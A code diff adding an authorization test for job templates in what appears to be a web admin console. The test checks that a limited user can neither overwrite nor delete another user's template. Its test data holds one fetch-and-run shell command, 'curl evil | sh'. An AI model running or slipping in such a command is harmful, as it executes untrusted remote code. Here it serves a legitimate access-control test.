@@ -106,6 +106,23 @@ def test_people_keep_their_own(admin: Browser, console: Console) -> None:
     assert admin.get(f"{URL}/own/{row.id}").status_code == 404
 
 
+def test_whom_tags_limit_changes_no_script_of_others(admin: Browser, console: Console) -> None:
+    limited = console.user("admin", "LYON")
+    admin.post(URL, {**SCRIPT, "template": "Ours"})
+    with console.sessions() as session:
+        (row,) = session.scalars(select(JobTemplate))
+    answer = limited.post(URL, {**SCRIPT, "script": "curl evil | sh", "template": "ours"})
+    assert answer.status_code == 422
+    assert "has kept a template Ours" in answer.text
+    assert limited.post(f"{URL}/own/{row.id}/delete").status_code == 403
+    assert "/delete" not in limited.get(URL).text
+    with console.sessions() as session:
+        assert session.get_one(JobTemplate, row.id).values == row.values
+    limited.post(URL, {**SCRIPT, "template": "Mine"})
+    assert limited.get(URL).text.count("/delete") == 1
+    assert limited.post(f"{URL}/own/{row.id + 1}/delete").status_code == 302
+
+
 def test_a_template_needs_a_name(admin: Browser) -> None:
     answer = admin.post(URL, {**SCRIPT, "template": " "})
     assert answer.status_code == 422
